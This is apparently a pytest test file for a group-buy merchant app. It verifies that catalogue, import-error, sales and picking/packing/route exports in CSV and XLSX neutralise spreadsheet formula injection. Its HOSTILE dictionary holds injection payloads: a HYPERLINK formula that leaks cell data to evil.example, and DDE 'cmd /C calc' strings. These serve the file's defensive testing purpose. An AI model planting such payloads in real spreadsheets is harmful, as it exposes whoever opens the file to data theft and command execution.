"""No cell of any CSV or XLSX the app writes can run as a formula. Every field a merchant, leader
or customer types (product, spec, category, subcategory, pickup point, address, contact, opening
hours, community, leader, group-buy title, customer) starts with =, +, -, @, a tab or a carriage
return here, and every writer is run: the catalogue export and template, the import error report,
the six sales exports and the picking, packing and route documents as CSV and XLSX. Numbers stay
numbers, and an exported catalogue re-imports unchanged."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import select

from app.extensions import db
from app.models import DocumentJob, Product
from app.services.deliveries import document_jobs
from app.services.reports import sales_report_export, sales_rollup
from tests.support import sales
from tests.support.forms import csrf_from
from tests.support.sales import local

ROOT = Path(__file__).resolve().parents[3]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = {
    "product": '=HYPERLINK("http://evil.example/?leak="&A1,"点我领券")',
    "spec": "+1+cmd|' /C calc'!A0",
    "category": "-2+3+cmd|' /C calc'!A0",
    "subcategory": "@SUM(1+1)*cmd|' /C calc'!A0",
    "point": "\t=1+1 东门自提点",
    "address": "\r=1+1 幸福路1号",
    "contact": "=1+1",
    "hours": "+09:00-21:00",
    "community": "=阳光小区",
    "leader": "@李团长",
    "title": "-周末水果团",
    "customer": "=王小明",
}
RANGE = "range=custom&start=2026-11-16&end=2026-11-22"


@pytest.fixture
def hostile(signed_in_owner, frozen_clock, make_product, make_window, make_leader, make_point, make_order):
    """The signed-in owner's shop with a hostile name in every typed field, sold, closed and
    confirmed, so that every table and document has rows."""
    user, merchant = signed_in_owner
    shop = sales.build(lambda: merchant, make_product, make_window, make_leader, make_point, merchant=merchant)
    product, point, leader = shop.products[0], shop.points[0], shop.leaders[0]
    product.name, product.spec = HOSTILE["product"], HOSTILE["spec"]
    product.category, product.subcategory = HOSTILE["category"], HOSTILE["subcategory"]
    point.name, point.address = HOSTILE["point"], HOSTILE["address"]
    point.contact_phone, point.opening_hours = HOSTILE["contact"], HOSTILE["hours"]
    leader.community_name = HOSTILE["community"]
    db.session.get(type(user), leader.user_id).name = HOSTILE["leader"]
    shop.window.title = HOSTILE["title"]
    db.session.commit()
    sales.sell(shop, make_order, at=local(date(2026, 11, 20)), lines=[(0, 2), (1, 1)])
    sales.sell(shop, make_order, at=local(date(2026, 11, 21)), lines=[(1, 3)], point=1)
    for where in (0, 1):
        make_order(shop.window, shop.points[where], [(shop.items[0], 2)], status="confirmed", name=HOSTILE["customer"])
    shop.window.status, shop.window.closes_at = "closed", local(date(2026, 11, 21))
    db.session.commit()
    sales_rollup.roll_up_sales()
    frozen_clock.now = local(date(2026, 11, 22))
    return user, merchant, shop


def _plain_number(text: str) -> bool:
    return re.fullmatch(r"-?\d+(?:\.\d+)?", text) is not None


def xlsx_texts(data: bytes) -> list[str]:
    """Check every cell of every sheet of a workbook and return its text: no formula and no
    error value anywhere, and text that starts like a formula is a quote-prefixed string."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert re.search(rb"<f[ >]", archive.read(name)) is None, f"a formula in {name}"
    texts = []
    book = load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type not in ("f", "e"), (cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    if cell.value.startswith(FORMULA_STARTS) and not _plain_number(cell.value):
                        assert cell.data_type == "s" and cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
    return texts


def csv_texts(path: Path) -> list[str]:
    """Check every field of a CSV file and return them: none starts like a formula unless it is
    a plain number."""
    with path.open(encoding="utf-8-sig", newline="") as fh:
        fields = [field for row in csv.reader(fh) for field in row]
    for field in fields:
        assert not field.startswith(FORMULA_STARTS) or _plain_number(field), repr(field)
    return fields


def _document(merchant, user, window, kind: str, fmt: str) -> Path:
    job = document_jobs.request_document(merchant.id, user.id, window.id, kind, fmt)
    assert document_jobs.build_documents() >= 1
    db.session.expire_all()
    job = db.session.get(DocumentJob, job.id)
    assert job.status == "done", job.error
    return document_jobs.file_path(job)


def _upload(client, data: bytes):
    token = csrf_from(client.get("/merchant/products/excel").get_data(as_text=True))
    return client.post(
        "/merchant/products/import",
        data={"csrf_token": token, "file": (io.BytesIO(data), "products.xlsx")},
        content_type="multipart/form-data",
    )


def test_the_catalogue_export_and_template_hold_no_formula(client, hostile):
    texts = xlsx_texts(client.get("/merchant/products/export.xlsx").data)
    for field in ("product", "spec", "category", "subcategory"):
        assert HOSTILE[field] in texts, field  # shown as typed, with no apostrophe added
    xlsx_texts(client.get("/merchant/products/template.xlsx").data)


def test_an_exported_catalogue_with_hostile_names_re_imports_unchanged(client, hostile):
    _user, merchant, _shop = hostile
    before = db.session.execute(
        select(Product.id, Product.name, Product.spec, Product.category, Product.subcategory)
        .where(Product.merchant_id == merchant.id)
        .order_by(Product.id)
    ).all()
    response = _upload(client, client.get("/merchant/products/export.xlsx").data)
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    assert "0 added, 0 updated, 2 unchanged" in response.get_data(as_text=True)
    db.session.expire_all()
    after = db.session.execute(
        select(Product.id, Product.name, Product.spec, Product.category, Product.subcategory)
        .where(Product.merchant_id == merchant.id)
        .order_by(Product.id)
    ).all()
    assert after == before and after[0].name == HOSTILE["product"]


def test_the_import_error_report_echoes_hostile_cells_as_text(client, hostile):
    book = Workbook()
    sheet = book.active
    sheet.append(["ID", "Name", "Spec / unit", "Category", "Subcategory", "Price (yuan)", "Stock", "Listed"])
    # A string cell whose text is a formula, as a crafted file would carry it, and a bad price.
    row = [None, HOSTILE["product"], HOSTILE["spec"], HOSTILE["category"], "", "=1/0", 1, "是"]
    sheet.append(spreadsheet_strings(sheet, row))
    out = io.BytesIO()
    book.save(out)
    response = _upload(client, out.getvalue())
    assert response.status_code == 422
    html = response.get_data(as_text=True)
    link = html.split('data-testid="error-report"')[0].rsplit('href="', 1)[1].split('"')[0]
    texts = xlsx_texts(client.get(link).data)
    assert {HOSTILE["product"], HOSTILE["spec"], HOSTILE["category"], "=1/0"} <= set(texts)


def spreadsheet_strings(sheet, values):
    """Cells forced to text, as Excel writes a cell typed as '=…; openpyxl would make formulas."""
    from openpyxl.cell.cell import Cell

    cells = []
    for value in values:
        cell = Cell(sheet, row=1, column=1, value=value)
        if isinstance(value, str):
            cell.data_type = "s"
        cells.append(cell)
    return cells


@pytest.mark.parametrize("table", sales_report_export.TABLES)
def test_every_sales_export_holds_no_formula_and_keeps_money_as_numbers(client, hostile, table):
    response = client.get(f"/merchant/reports/{table}.xlsx?{RANGE}")
    assert response.status_code == 200
    texts = xlsx_texts(response.data)
    expected = {
        "products": {HOSTILE["product"], HOSTILE["spec"]},
        "leaders": {HOSTILE["community"], HOSTILE["leader"]},
        "points": {HOSTILE["point"], HOSTILE["community"]},
        "windows": {HOSTILE["title"]},
    }.get(table, set())
    assert expected <= set(texts)
    rows = list(load_workbook(io.BytesIO(response.data)).active.iter_rows(min_row=2, values_only=True))
    assert rows and all(isinstance(v, int | float) for row in rows for v in row[-2:] if v is not None)


@pytest.mark.parametrize("kind", ["picking", "packing", "route"])
def test_window_documents_hold_no_formula_as_csv_or_xlsx(hostile, kind):
    user, merchant, shop = hostile
    shown = {
        "picking": ["point", "product", "spec"],
        "packing": ["point", "product", "spec"],
        "route": ["point", "address", "contact", "hours"],
    }[kind]
    fields = csv_texts(_document(merchant, user, shop.window, kind, "csv"))
    for field in shown:
        assert "'" + HOSTILE[field] in fields, field
    if kind == "packing":
        assert "'=***" in fields  # the masked customer keeps the name's first character
    path = _document(merchant, user, shop.window, kind, "xlsx")
    texts = xlsx_texts(path.read_bytes())
    assert texts[0].startswith(HOSTILE["title"])  # the title row
    for field in shown:
        assert HOSTILE[field] in texts, field
    rows = list(load_workbook(path, read_only=True).worksheets[0].iter_rows(min_row=3, values_only=True))
    assert rows and all(isinstance(row[-1], int) for row in rows)  # quantities and counts stay numbers


def test_every_module_that_writes_a_spreadsheet_goes_through_the_shared_helper():
    writers = {
        str(path.relative_to(ROOT))
        for path in (ROOT / "app").rglob("*.py")
        if re.search(r"\bWorkbook\(|csv\.(?:writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    }
    # The writers the tests above run; a new one must be added there (and use the helper).
    assert writers == {
        "app/services/catalog/catalog_excel.py",
        "app/services/deliveries/document_jobs.py",
        "app/services/catalog/import_reports.py",
        "app/services/reports/sales_report_export.py",
    }
    for path in writers:
        assert "spreadsheets." in (ROOT / path).read_text(encoding="utf-8"), path
